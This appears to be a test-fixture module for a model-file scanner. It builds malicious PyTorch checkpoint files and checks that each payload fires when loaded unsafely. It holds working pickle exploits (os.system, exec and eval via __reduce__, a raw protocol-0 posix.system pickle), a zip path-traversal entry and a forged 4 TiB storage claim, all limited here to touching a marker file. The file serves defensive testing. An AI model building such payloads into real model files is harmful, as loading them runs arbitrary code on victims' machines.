"""A corpus of hostile `.bin` files, each built with the standard library's pickler and torch's
own `torch.save`, plus a way to prove each payload is live: loading it the unsafe way, in a
throwaway process, does what it was built to do (a code payload touches its marker file).

Every payload's side effect is touching a marker file chosen by the test, nothing else."""

from __future__ import annotations

import collections
import io
import pickle
import subprocess
import sys
import zipfile
from pathlib import Path

import torch

# name -> what the bot's refusal names (a fragment of the message)
REFUSALS = {
    "reduce-os-system": "posix.system",
    "builtins-exec": "__builtin__.exec (dangerous)",
    "builtins-eval": "__builtin__.eval (dangerous)",
    "protocol0-raw": "posix.system",
    "protocol0-in-zip": "posix.system",
    "path-traversal": "escapes the archive",
    "terabyte-storage": "declares 4398046511104 bytes",
    "truncated": "not a torch zip archive",
}
CODE_PAYLOADS = {"reduce-os-system", "builtins-exec", "builtins-eval", "protocol0-raw",
                 "protocol0-in-zip"}  # fmt: skip


class _Reduce:
    def __init__(self, fn, arg):
        self.fn, self.arg = fn, arg

    def __reduce__(self):
        return (self.fn, (self.arg,))


def _state() -> dict:
    return {"conv_in.weight": torch.ones(4, 4), "conv_in.bias": torch.zeros(4)}


def _protocol0(marker: Path) -> bytes:
    return f"cposix\nsystem\n(S'touch {marker}'\ntR.".encode()


def _rezip(src: Path, dst: Path, replace: dict[str, bytes], extra: dict[str, bytes]) -> None:
    with zipfile.ZipFile(src) as a, zipfile.ZipFile(dst, "w") as b:
        for info in a.infolist():
            data = replace.get(info.filename, a.read(info))
            b.writestr(info.filename, data)
        for name, data in extra.items():
            b.writestr(name, data)


class _StoragePid:
    pass


class _BigTensor:
    def __reduce__(self):
        args = (_StoragePid(), 0, (2**40,), (1,), False, collections.OrderedDict())
        return (torch._utils._rebuild_tensor_v2, args)


class _PidPickler(pickle.Pickler):
    def persistent_id(self, obj):
        if isinstance(obj, _StoragePid):
            return ("storage", torch.ByteStorage, "0", "cpu", 2**42)
        return None


def build(name: str, path: Path, marker: Path) -> Path:
    """Write the hostile file `name` at `path`; its code payload touches `marker`."""
    path.parent.mkdir(parents=True, exist_ok=True)
    import builtins
    import os

    if name == "reduce-os-system":
        torch.save({**_state(), "x": _Reduce(os.system, f"touch {marker}")}, path)
    elif name == "builtins-exec":
        code = f"open({str(marker)!r}, 'w').close()"
        torch.save({**_state(), "x": _Reduce(builtins.exec, code)}, path)
    elif name == "builtins-eval":
        code = f"__import__('pathlib').Path({str(marker)!r}).touch()"
        torch.save({**_state(), "x": _Reduce(builtins.eval, code)}, path)
    elif name == "protocol0-raw":
        path.write_bytes(_protocol0(marker))
    elif name == "protocol0-in-zip":
        good = path.with_suffix(".good")
        torch.save(_state(), good)
        prefix = zipfile.ZipFile(good).namelist()[0].split("/")[0]
        _rezip(good, path, {f"{prefix}/data.pkl": _protocol0(marker)}, {})
        good.unlink()
    elif name == "path-traversal":
        good = path.with_suffix(".good")
        torch.save(_state(), good)
        prefix = zipfile.ZipFile(good).namelist()[0].split("/")[0]
        _rezip(good, path, {}, {f"{prefix}/../../{marker.name}": b"escaped"})
        good.unlink()
    elif name == "terabyte-storage":
        buf = io.BytesIO()
        _PidPickler(buf, protocol=2).dump({"conv_in.weight": _BigTensor()})
        with zipfile.ZipFile(path, "w") as z:
            z.writestr("archive/data.pkl", buf.getvalue())
            z.writestr("archive/byteorder", "little")
            z.writestr("archive/data/0", b"\0" * 16)
            z.writestr("archive/version", "3\n")
    elif name == "truncated":
        good = path.with_suffix(".good")
        torch.save({f"w{i}": torch.ones(256) for i in range(8)}, good)
        data = good.read_bytes()
        path.write_bytes(data[: len(data) // 2])
        good.unlink()
    else:
        raise KeyError(name)
    return path


_UNSAFE_LOAD = """
import sys, torch
torch.load(sys.argv[1], weights_only=False)
"""
_NAIVE_EXTRACT = """
import sys, zipfile, pathlib
dest = pathlib.Path(sys.argv[2])
with zipfile.ZipFile(sys.argv[1]) as z:
    for name in z.namelist():  # what a naive extractor does: join and write
        out = pathlib.Path(str(dest) + "/" + name)
        out.parent.mkdir(parents=True, exist_ok=True)
        out.write_bytes(z.read(name))
"""


def prove_live(name: str, path: Path, marker: Path, scratch: Path) -> str:
    """Load the payload the unsafe way in a throwaway process; returns what it did."""
    if name in CODE_PAYLOADS:
        subprocess.run([sys.executable, "-c", _UNSAFE_LOAD, str(path)], capture_output=True)
        assert marker.exists(), f"{name}: payload did not fire"
        marker.unlink()
        return "fired"
    if name == "path-traversal":
        dest = scratch / "a" / "b" / "extract"
        dest.mkdir(parents=True)
        subprocess.run([sys.executable, "-c", _NAIVE_EXTRACT, str(path), str(dest)], check=True)
        escaped = dest.parent / marker.name  # {prefix}/../../name: outside `dest`
        assert escaped.read_bytes() == b"escaped"
        return "escaped"
    proc = subprocess.run(
        [sys.executable, "-c", _UNSAFE_LOAD, str(path)], capture_output=True, text=True
    )
    assert proc.returncode != 0
    if name == "terabyte-storage":  # torch parsed the claim and was handed 4 TiB to read
        assert "4398046511104" in proc.stderr, proc.stderr[-500:]
    return proc.stderr.strip().splitlines()[-1]
